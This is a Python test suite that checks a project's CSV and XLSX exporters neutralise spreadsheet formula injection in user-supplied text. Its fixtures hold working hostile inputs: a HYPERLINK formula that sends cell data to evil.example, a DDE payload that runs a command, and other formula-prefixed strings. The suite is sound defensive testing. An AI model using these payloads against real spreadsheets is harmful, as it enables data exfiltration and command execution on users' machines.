"""Spreadsheets: no text a user typed comes out of a CSV or XLSX as a live formula (issue 15).

The first tests check `nudge.io.sheets` itself; a source guard checks that every writer goes
through it; the rest walk every exporter end to end with hostile text where users put text
(registry imports and forms, content entries, plan and district names, matching rules) and
parse what comes out.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from registry_support import ALMATY, ALMATY_2, Users
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from nudge.cli import app
from nudge.content import (
    campaign_from_file,
    export_items,
    load_library,
    plan_rotation,
    write_rotation,
)
from nudge.content.campaign import CampaignSettings
from nudge.content.library import ContentLibrary
from nudge.geo.regions import DistrictLayer
from nudge.io.exports import write_geoframe
from nudge.io.sheets import (
    csv_bytes,
    csv_cell,
    is_formula_like,
    rows_csv_bytes,
    rows_xlsx_bytes,
    unquote_cell,
    xlsx_bytes,
)
from nudge.io.tables import read_table
from nudge.placement.plan_files import plan_to_file
from nudge.placement.selection import MaximalCoverage
from nudge.registry import (
    Populations,
    build_report,
    export_installations,
    import_installations,
    installations_bytes,
    log_installation,
    log_publication,
    report_bytes,
    write_report,
)
from nudge.settings import Settings
from nudge.ui.files import file_bytes, geoframe_bytes
from nudge.ui.library import rotation_workbook

pytest_plugins = ["registry_support"]

ROOT = Path(__file__).resolve().parents[1]
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Almaty")'
EVIL_QUOTED = "'" + EVIL
HOSTILE = [EVIL, "=1+1", "+7 727 000 00 00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
PLAIN = ["Алматы", "a=b", "e-mail", "'already quoted", ""]
LIVE = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet program may read as the start of a formula (the OWASP list)."""
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
WRITERS = re.compile(
    r"\.to_csv\(|\.to_excel\(|ExcelWriter|\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter"
)
"""Ways to write a CSV or XLSX file without `nudge.io.sheets`."""


def csv_rows(data: bytes) -> list[list[str]]:
    """Return the rows of CSV `data` (UTF-8, with or without a byte-order mark)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_safe(data: bytes | Path, *expected: str) -> list[list[str]]:
    """Assert no CSV cell is a live formula and each `expected` text is there, quoted."""
    rows = csv_rows(data.read_bytes() if isinstance(data, Path) else data)
    cells = [cell for row in rows for cell in row]
    live = [c for c in cells if c.startswith(LIVE) and not NUMBER.fullmatch(c)]
    assert live == []
    missing = [text for text in expected if "'" + text not in cells]
    assert missing == []
    return rows


def assert_xlsx_safe(data: bytes | Path, *expected: str) -> openpyxl.Workbook:
    """Assert no XLSX cell is a formula, formula-like text is quoted text, `expected` is there."""
    raw = data.read_bytes() if isinstance(data, Path) else data
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert parts
        assert [n for n in parts if re.search(rb"<f[ >/]", archive.read(n))] == []
    book = openpyxl.load_workbook(io.BytesIO(raw))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                assert cell.data_type != "f", where
                if isinstance(cell.value, str) and cell.value.startswith((*LIVE, "\n")):
                    assert (cell.data_type, cell.quotePrefix) == ("s", True), where
                    texts.append(cell.value)
    missing = [text for text in expected if text not in texts]
    assert missing == []
    return book


# --- nudge.io.sheets ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "\n=1+1", "＝1+1", "－1", "＋1", "＠x"])
def test_formula_like_text_is_recognised(text: str) -> None:
    assert is_formula_like(text)


@pytest.mark.parametrize("value", [*PLAIN, " =1+1", 3, -1.5, None, date(2025, 3, 1), True])
def test_plain_text_and_other_values_are_not_formula_like(value: object) -> None:
    assert not is_formula_like(value)


def test_rows_csv_quotes_formula_like_text_and_keeps_the_rest() -> None:
    header = ["name", EVIL, "count", "share", "day", "missing"]
    rows = [[text, text, 3, -1.5, date(2025, 3, 1), None] for text in HOSTILE + PLAIN]
    out = csv_rows(rows_csv_bytes(header, rows))
    assert out[0] == ["name", "'" + EVIL, "count", "share", "day", "missing"]
    for text, row in zip(HOSTILE + PLAIN, out[1:], strict=True):
        shown = "'" + text if text in HOSTILE else text
        assert row == [shown, shown, "3", "-1.5", "2025-03-01", ""]
    assert_csv_safe(rows_csv_bytes(header, rows), *HOSTILE)


def test_csv_bytes_of_a_frame_quotes_text_headers_and_index() -> None:
    texts = HOSTILE + PLAIN
    frame = pd.DataFrame(
        {
            "name": texts,
            "label": pd.array([*HOSTILE, *[pd.NA] * len(PLAIN)], dtype="string"),
            "group": pd.Categorical([t if t in HOSTILE else "Алматы" for t in texts]),
            "count": range(len(texts)),
            "share": -1.5,
            "day": pd.Timestamp("2025-03-01"),
            "missing": None,
            "=total": 1,
        },
        index=pd.Index(texts, name="@id"),
    )
    out = csv_rows(csv_bytes(frame, index=True))
    header = ["'@id", "name", "label", "group", "count", "share", "day", "missing", "'=total"]
    assert out[0] == header
    for i, (text, row) in enumerate(zip(texts, out[1:], strict=True)):
        shown = "'" + text if text in HOSTILE else text
        label = shown if text in HOSTILE else ""
        group = shown if text in HOSTILE else "Алматы"
        assert row == [shown, shown, label, group, str(i), "-1.5", "2025-03-01", "", "1"]
    without_index = csv_rows(csv_bytes(frame))
    assert without_index[0][0] == "name"
    assert csv_bytes(frame, encoding="utf-8-sig").startswith(codecs.BOM_UTF8)


def test_xlsx_writes_formula_like_text_as_quoted_text_and_keeps_the_rest() -> None:
    texts = HOSTILE + PLAIN
    frame = pd.DataFrame(
        {
            "name": texts,
            "count": range(len(texts)),
            "share": -1.5,
            "day": pd.Timestamp("2025-03-01"),
            "missing": None,
            "ok": True,
        },
        index=pd.Index(texts, name="@id"),
    )
    book = assert_xlsx_safe(xlsx_bytes({"sites": frame}, index=True), *HOSTILE[:-1])
    sheet = book["sites"]
    header = next(sheet.iter_rows(max_row=1))
    assert [c.value for c in header] == ["@id", "name", "count", "share", "day", "missing", "ok"]
    assert [c.quotePrefix for c in header] == [True] + [False] * 6
    assert {c.data_type for c in header} == {"s"}
    for i, (text, row) in enumerate(zip(texts, sheet.iter_rows(min_row=2), strict=True)):
        key, name, count, share, day, missing, ok = row
        # XML turns a carriage return into a line feed; the cell stays quoted text either way
        stored = text.replace("\r", "\n")
        for cell in (key, name):
            assert (cell.value or "") == stored
            assert cell.data_type == ("s" if text else "inlineStr")
            assert cell.quotePrefix is (text in HOSTILE)
        assert (count.value, count.data_type, share.value) == (i, "n", -1.5)
        assert day.value == datetime(2025, 3, 1)
        assert day.is_date
        assert missing.value is None
        assert (ok.value, ok.data_type) == (True, "b")


def test_rows_xlsx_quotes_formula_like_text_in_every_sheet() -> None:
    rows = [[text, 2024, date(2025, 3, 1)] for text in HOSTILE]
    data = rows_xlsx_bytes({"entries": (["text", "year", "=day"], rows), "more": (["@x"], [])})
    book = assert_xlsx_safe(data, *HOSTILE[:-1], "=day", "@x")
    assert book.sheetnames == ["entries", "more"]
    assert [c.value for c in book["entries"]["B"][1:]] == [2024] * len(HOSTILE)
    assert book["entries"]["C2"].value == datetime(2025, 3, 1)


@pytest.mark.parametrize("text", ["Mall\r=1+1", "Mall\n=1+1", "Mall\r\n=1+1"])
def test_a_line_break_inside_a_cell_never_starts_a_row(text: str) -> None:
    for data in (
        rows_csv_bytes(["name", "n"], [[text, 1]]),
        csv_bytes(pd.DataFrame({"name": [text], "n": [1]})),
    ):
        assert csv_rows(data) == [["name", "n"], [text, "1"]]


def test_sheet_names_are_cut_to_what_excel_accepts() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"a/b:c?" * 10: pd.DataFrame({"x": [1]})})))
    assert book.sheetnames == [("a_b_c_" * 10)[:31]]


def test_every_csv_and_xlsx_writer_goes_through_sheets() -> None:
    sources = [
        ROOT / "app.py",
        *(ROOT / "nudge").rglob("*.py"),
        *(ROOT / "app_pages").rglob("*.py"),
    ]
    found = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for path in sources
        if path != ROOT / "nudge" / "io" / "sheets.py" and path.is_file()
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITERS.search(line)
    ]
    assert found == []


# --- the registry: `nudge registry export` and the ministry report --------------------------------


@pytest.fixture
def hostile_registry(engine: Engine, users: Users) -> Engine:
    """A registry whose installations and publication carry formula-like text everywhere."""
    districts = DistrictLayer(names=(EVIL,), geometries=(shapely.box(76.85, 43.2, 76.9, 43.3),))
    log_installation(
        engine,
        user=users.almaty,
        kind="banner",
        lat=ALMATY[0],
        lon=ALMATY[1],
        installed_on="2025-03-01",
        city=EVIL,
        note=EVIL,
        content_id="@SUM(A1:A9)",
        themes=["-fear", "+hope"],
        size="-3x6",
        external_id="=1+1",
        districts=districts,
    )
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["lat", "lon", "kind", "installed_on", "city", "note", "content_id", "themes"])
    hostile = ["banner", "2025-03-02", "+7 727 Almaty", "\t=1+1", "-2+3", "=cmd|' /C calc'!A0"]
    writer.writerow([*ALMATY_2, *hostile])
    writer.writerow([43.27, 76.95, "billboard", "2025-03-03", "Almaty\r=1+1", EVIL, "\r=1+1", ""])
    result = import_installations(
        engine,
        buffer.getvalue().encode(),
        user=users.almaty,
        filename="hostile.csv",
        districts=districts,
    )
    assert (result.stored, result.errors) == (2, [])
    log_publication(
        engine,
        user=users.almaty,
        kind="podcast",
        title=EVIL,
        published_on=date(2025, 3, 5),
        region="ALA",
        city=EVIL,
        themes="@theme",
        link="https://example.kz/p",
        note=EVIL,
        districts=districts,
        lat=ALMATY[0],
        lon=ALMATY[1],
    )
    return engine


def test_registry_export_has_no_live_formula(hostile_registry: Engine, tmp_path: Path) -> None:
    texts = (EVIL, "@SUM(A1:A9)", "+7 727 Almaty", "-2+3", "=1+1", "+hope,-fear")
    data, count = installations_bytes(hostile_registry, "csv")
    assert count == 3
    rows = assert_csv_safe(data, *texts)
    assert rows[0][:2] == ["id", "kind"]
    assert [row[4] for row in rows] == ["city", EVIL_QUOTED, "'+7 727 Almaty", "Almaty\r=1+1"]
    assert_xlsx_safe(installations_bytes(hostile_registry, "xlsx")[0], *texts)
    for suffix, check in ((".csv", assert_csv_safe), (".xlsx", assert_xlsx_safe)):
        assert export_installations(hostile_registry, tmp_path / f"inst{suffix}") == 3
        check(tmp_path / f"inst{suffix}", *texts)


def test_ministry_report_has_no_live_formula(hostile_registry: Engine, tmp_path: Path) -> None:
    report = build_report(hostile_registry, populations=Populations(cities={EVIL: 1000}))
    texts = (EVIL, "+7 727 Almaty", "+hope", "-fear", "@theme")
    rows = assert_csv_safe(report_bytes(report, "csv", lang="en"), *texts)
    assert "Almaty\r=1+1" in {cell for row in rows for cell in row}
    book = assert_xlsx_safe(report_bytes(report, "xlsx", lang="en"), *texts)
    city = [c.value for c in book["cities"]["A"]]
    assert EVIL in city
    records = [c.value for row in book["records"].iter_rows() for c in row]
    assert EVIL in records
    for suffix, check in ((".csv", assert_csv_safe), (".xlsx", assert_xlsx_safe)):
        # the Indicators page's download buttons
        check(file_bytes(lambda p: write_report(report, p), suffix), *texts)


# --- content: export, rotation files and print orders, match CSV ---------------------------------


@pytest.fixture(scope="module")
def campaign() -> CampaignSettings:
    return campaign_from_file()


def add_hostile_entries(library: ContentLibrary, campaign: CampaignSettings) -> None:
    """Add proverbs and a contest winner whose every text field may start a formula."""
    kazakh = ["+Еңбек түбі – береке.", "-Еңбек етсең – ерінбей.", "@Еңбек – бақыт.", EVIL]
    for i, text in enumerate(kazakh):
        entry = {
            "id": f"evil-{i}",
            "kind": "proverb",
            "text_kk": text,
            "text_ru": EVIL,
            "text_ru_kind": "translation",
            "themes": "diligence",
            "source": EVIL,
            "author": "=1+1",
        }
        library.put("proverbs", entry, campaign=campaign)
    winner = {
        "id": "evil-w",
        "name": "-Асқар Бекұлы",
        "profession": "@welder",
        "region": "Almaty",
        "year": 2024,
        "quote_kk": "=Еңбек – бақыт.",
        "consent": True,
        "is_example": False,
        "themes": "mastery",
    }
    library.put("winners", winner, campaign=campaign)


@pytest.fixture
def library(campaign: CampaignSettings) -> ContentLibrary:
    """A library holding only hostile entries."""
    lib = ContentLibrary()
    add_hostile_entries(lib, campaign)
    return lib


@pytest.fixture
def hostile_plan() -> gpd.GeoDataFrame:
    """Two planned banners in Almaty whose ids, names and districts may start a formula."""
    return gpd.GeoDataFrame(
        {
            "site_id": ["=s0", "@s1"],
            "kind": ["banner"] * 2,
            "score": [5.0, 7.0],
            "name": [EVIL, "-Mall"],
            "district": ["+Medeu", EVIL],
        },
        geometry=[shapely.Point(76.95, 43.25), shapely.Point(76.99, 43.27)],
        crs=4326,
    )


def test_content_export_has_no_live_formula(library: ContentLibrary, tmp_path: Path) -> None:
    proverbs = ("+Еңбек түбі – береке.", "-Еңбек етсең – ерінбей.", "@Еңбек – бақыт.", EVIL, "=1+1")
    winners = ("-Асқар Бекұлы", "@welder", "=Еңбек – бақыт.")
    for collection, texts in (("proverbs", proverbs), ("winners", winners)):
        for suffix, check in ((".csv", assert_csv_safe), (".xlsx", assert_xlsx_safe)):
            path = tmp_path / f"{collection}{suffix}"
            assert export_items(library, path, collection=collection) >= 1
            check(path, *texts)
            # the Content page's download buttons
            export = file_bytes(
                lambda p, c=collection: export_items(library, p, collection=c), suffix
            )
            check(export, *texts)


def test_rotation_files_have_no_live_formula(
    library: ContentLibrary,
    hostile_plan: gpd.GeoDataFrame,
    campaign: CampaignSettings,
    tmp_path: Path,
) -> None:
    result = plan_rotation(
        hostile_plan, library, flights=2, start=date(2025, 1, 6), campaign=campaign, min_gap=0
    )
    written = write_rotation(result, tmp_path / "rotation.csv")
    expected = {"calendar", "schedule", "exposure", "print_orders", "violations", "xlsx"}
    assert set(written) == expected
    placed = set(result.schedule["text_kk"])
    assert placed & {"+Еңбек түбі – береке.", "-Еңбек етсең – ерінбей.", "@Еңбек – бақыт.", EVIL}
    assert_csv_safe(written["calendar"], "=s0", "@s1", EVIL, "-Mall")
    assert_csv_safe(written["schedule"], "=s0", EVIL, "+Medeu", *placed)
    assert_csv_safe(written["exposure"])
    assert_csv_safe(written["print_orders"], *placed)
    assert_csv_safe(written["violations"])
    book = assert_xlsx_safe(written["xlsx"], "=s0", "@s1", EVIL, "-Mall", "+Medeu", *placed)
    assert {"calendar", "schedule", "print_orders"} <= set(book.sheetnames)
    # the Content page's downloads: print orders CSV and the rotation workbook
    assert_csv_safe(csv_bytes(result.print_orders), *placed)
    assert_xlsx_safe(rotation_workbook(result), "=s0", EVIL, "+Medeu", *placed)


def test_content_match_csv_has_no_live_formula(
    settings: Settings,
    hostile_plan: gpd.GeoDataFrame,
    campaign: CampaignSettings,
    tmp_path: Path,
) -> None:
    stored = load_library(settings)
    add_hostile_entries(stored, campaign)
    stored.save()
    plan = tmp_path / "plan.geojson"
    hostile_plan.to_file(plan, driver="GeoJSON")
    rules = tmp_path / "rules.toml"
    rules.write_text('radius_m = 400\n[home]\nreason_region = "@home region"\n', encoding="utf-8")
    out = tmp_path / "match.csv"
    args = ["content", "match", str(plan), "--out", str(out), "--region", "Almaty"]
    options = ["--rules", str(rules), "--top", "3", "--json"]
    env = {"NUDGE_DATA_DIR": str(settings.data_dir)}
    result = CliRunner().invoke(app, [*args, *options], env=env)
    assert result.exit_code == 0, result.output
    rows = assert_csv_safe(out, "=s0", "@s1")
    assert rows[0] == ["item_id", "score", "reasons", "site_id"]
    assert any(row[2].startswith("'@home region") for row in rows[1:])


# --- placement: candidates, plans and their districts ---------------------------------------------


@pytest.fixture
def hostile_candidates() -> gpd.GeoDataFrame:
    """Three candidates in Almaty (UTM 43N) with formula-like ids, names and a column header."""
    points = [shapely.Point(500_000 + 1000 * i, 4_790_000) for i in range(3)]
    return gpd.GeoDataFrame(
        {
            "kind": "banner",
            "name": [EVIL, "@stop", "-Mall"],
            "score": [10.0, 20.0, 30.0],
            "@note": ["+1", None, "ok\r=1+1"],
        },
        geometry=points,
        crs="EPSG:32643",
        index=pd.Index(["+a", "b", "c"], name="candidate_id"),
    )


def test_candidate_tables_have_no_live_formula(
    hostile_candidates: gpd.GeoDataFrame, tmp_path: Path
) -> None:
    texts = ("+a", EVIL, "@stop", "-Mall", "@note", "+1")
    for suffix, check in ((".csv", assert_csv_safe), (".xlsx", assert_xlsx_safe)):
        check(write_geoframe(hostile_candidates, tmp_path / f"candidates{suffix}"), *texts)
        check(geoframe_bytes(hostile_candidates, suffix), *texts)
    back = pd.read_excel(tmp_path / "candidates.xlsx")
    assert back["name"].tolist() == [EVIL, "@stop", "-Mall"]
    assert back["lat"].iloc[0] == pytest.approx(43.2628, abs=1e-3)


def test_plan_files_have_no_live_formula(
    hostile_candidates: gpd.GeoDataFrame, tmp_path: Path
) -> None:
    demand = gpd.GeoDataFrame(
        {"weight": [3.0, 2.0, 1.0]}, geometry=list(hostile_candidates.geometry), crs="EPSG:32643"
    )
    districts = gpd.GeoDataFrame(
        {"district": [EVIL, "+West"]},
        geometry=[
            shapely.box(499_000, 4_789_000, 501_500, 4_791_000),
            shapely.box(501_500, 4_789_000, 504_000, 4_791_000),
        ],
        crs="EPSG:32643",
    )
    plan = MaximalCoverage.from_geodataframe(
        hostile_candidates, demand, kind="banner", count=3, radius=100, districts=districts
    ).solve()
    assert set(plan.by_district) == {EVIL, "+West"}
    texts = ("+a", EVIL, "@stop", "-Mall", "+West")
    assert_csv_safe(plan_to_file(plan, tmp_path / "plan.csv"), *texts)
    book = assert_xlsx_safe(plan_to_file(plan, tmp_path / "plan.xlsx"), *texts, "+a, b")
    assert book.sheetnames == ["plan", "districts", "summary"]
    assert [c.value for c in book["districts"]["A"]] == ["district", EVIL, "+West"]
    assert_xlsx_safe(plan_to_file(plan.chosen, tmp_path / "chosen.xlsx"), *texts)
    for suffix, check in ((".csv", assert_csv_safe), (".xlsx", assert_xlsx_safe)):
        # the Plan page's download buttons
        check(file_bytes(lambda p: plan_to_file(plan, p), suffix), *texts)


def test_an_export_imports_back_unchanged() -> None:
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Almaty")', "-еңбек", "plain", "'quoted"]
    frame = pd.DataFrame({"lat": [43.2] * 4, "lon": [76.9] * 4, "city": hostile})
    table, _ = read_table(csv_bytes(frame, encoding="utf-8-sig"), name="export.csv")
    assert table["city"].tolist() == hostile
    assert [unquote_cell(csv_cell(v)) for v in hostile] == hostile


def test_control_characters_do_not_break_an_xlsx() -> None:
    data = xlsx_bytes({"s": pd.DataFrame({"city": ["Almaty\x07x", "=1+1\x00"]})})
    cells = [c.value for c in openpyxl.load_workbook(io.BytesIO(data))["s"]["A"]]
    assert cells == ["city", "Almatyx", "=1+1"]
